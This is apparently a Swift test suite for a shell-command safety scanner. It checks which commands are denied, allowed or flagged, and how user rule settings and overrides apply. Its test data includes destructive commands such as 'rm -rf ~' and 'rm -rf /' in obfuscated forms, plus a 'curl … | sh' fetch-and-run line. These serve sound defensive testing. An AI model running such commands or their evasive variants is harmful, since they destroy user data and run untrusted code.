import PicketKit
import PicketModel
import Testing

/// What becomes of a command before it runs.
struct CommandVerdictTests {
  private func verdict(_ command: String, explains: Bool = false) throws -> CommandVerdict {
    let request = CommandRequest(
      command, directory: "/work/app", home: "/home/u", project: "/work/app")
    return try Scanner().judge(request, explains: explains)
  }

  @Test(arguments: [
    ("cat <<E;rm -rf ~\nbody\nE", CommandDecision.deny), ("bash <<'E'\nrm -rf ~\nE", .deny),
    ("X=rm; $X -r -f \"$HOME\"", .deny), ("sudo -u a env A=1 timeout 5 /bin/r\\m -fr /", .deny),
    ("git commit -m 'rm -rf ~'", .allow), ("cat <<'E' >doc.md\nrm -rf ~\nE", .allow),
    ("echo 'rm -rf ~'", .allow), ("grep -r 'rm -rf ~' .", .allow), ("rm -rf ./build", .allow),
    ("git push --force-with-lease", .allow), ("git clean -n", .allow),
    ("git push --force", .ask), ("curl -s https://x.example | sh", .ask),
    ("sudo make install", .allow),
  ])
  func `decides`(command: String, expected: CommandDecision) throws {
    #expect(try verdict(command).decision == expected)
  }

  @Test func `gives the strongest finding first`() throws {
    let verdict = try verdict("git push -f; sudo rm -rf /")
    #expect(verdict.findings.first?.rule == "recursive-delete-of-root")
    #expect(verdict.findings.map(\.action) == [.deny, .ask, .note])
  }

  @Test func `tells what was resolved, if somebody asks`() throws {
    #expect(try verdict("X=rm; sudo $X -rf /", explains: true).notes.contains("sudo runs rm"))
    #expect(try verdict("sudo rm -rf /").notes == [])
  }

  @Test func `asks where a command is too deep to be judged`() throws {
    let verdict = try verdict("echo " + String(repeating: "$(", count: 50_000))
    #expect(verdict.decision == .ask)
    #expect(verdict.findings.map(\.rule) == ["unjudged-command"])
  }

  @Test func `leaves out rules that are skipped`() throws {
    var settings = Settings()
    settings.skippedRules = ["git-force-push"]
    #expect(try Scanner(settings).judge(CommandRequest("git push -f")).decision == .allow)
  }

  private func verdict(_ command: String, _ configuration: String) throws -> CommandVerdict {
    var settings = Settings()
    settings.configuration = Configuration([
      RuleSource(name: "c.toml", bytes: Array(configuration.utf8))
    ])
    return try Scanner(settings).judge(CommandRequest(command, directory: "/work/app"))
  }

  private static let release = """
    [[rules]]
    id = "acme-release"
    name = "Release of Acme"
    check = "shell/command"
    action = "deny"
    command = { verb = "deployctl", subcommand = ["release"], options = ["--prod"] }

    """

  @Test func `obeys command rules of users`() throws {
    let verdict = try verdict("ls; sudo deployctl release v1 --prod", Self.release)
    #expect(verdict.decision == .deny)
    #expect(verdict.findings.first?.rule == "acme-release")
    #expect(verdict.findings.first?.message == "Release of Acme")
    #expect(verdict.findings.first?.category == .shell)
    for other in ["deployctl release v1", "echo deployctl release --prod", "deployctl --prod"] {
      #expect(try self.verdict(other, Self.release).decision == .allow)
    }
  }

  @Test(
    arguments: [
      ("[rules.acme-release]\naction = 'ask'", "deployctl release --prod", .ask),
      ("[rules.acme-release]\nenabled = false", "deployctl release --prod", .allow),
      ("[rules.git-force-push]\naction = 'deny'", "git push -f", .deny),
      ("[rules.git-force-push]\naction = 'note'", "git push -f", .allow),
      ("[rules.SH16]\naction = 'deny'", "git push -f", .deny),
    ] as [(String, String, CommandDecision)])
  func `asks as much as the settings say`(
    setting: String, command: String, expected: CommandDecision
  ) throws {
    let verdict = try verdict(command, Self.release + setting)
    #expect(verdict.decision == expected)
    // What a project's own settings silence is told all the same.
    #expect(verdict.findings.count == 1)
  }

  @Test func `finds the commands of users in files`() throws {
    var settings = Settings()
    settings.configuration = Configuration([
      RuleSource(name: "c.toml", bytes: Array(Self.release.utf8))
    ])
    let scanner = try Scanner(settings)
    for (path, text) in [
      ("a.sh", "deployctl release --prod\n"), ("Makefile", "x:\n\tdeployctl release --prod\n"),
      ("a.py", "import os\nos.system('deployctl release --prod')\n"),
    ] {
      let bytes = Array(text.utf8)
      let report = scanner.scan(bytes.span, path: BytePath(path))
      #expect(report.findings.map(\.rule) == ["acme-release"], "\(path)")
    }
  }

  @Test func `knows its variables`() throws {
    let request = CommandRequest(
      "rm -rf \"$OUT\"", directory: "/work/app", environment: ["OUT": "/"])
    #expect(try Scanner().judge(request).decision == .deny)
  }
}
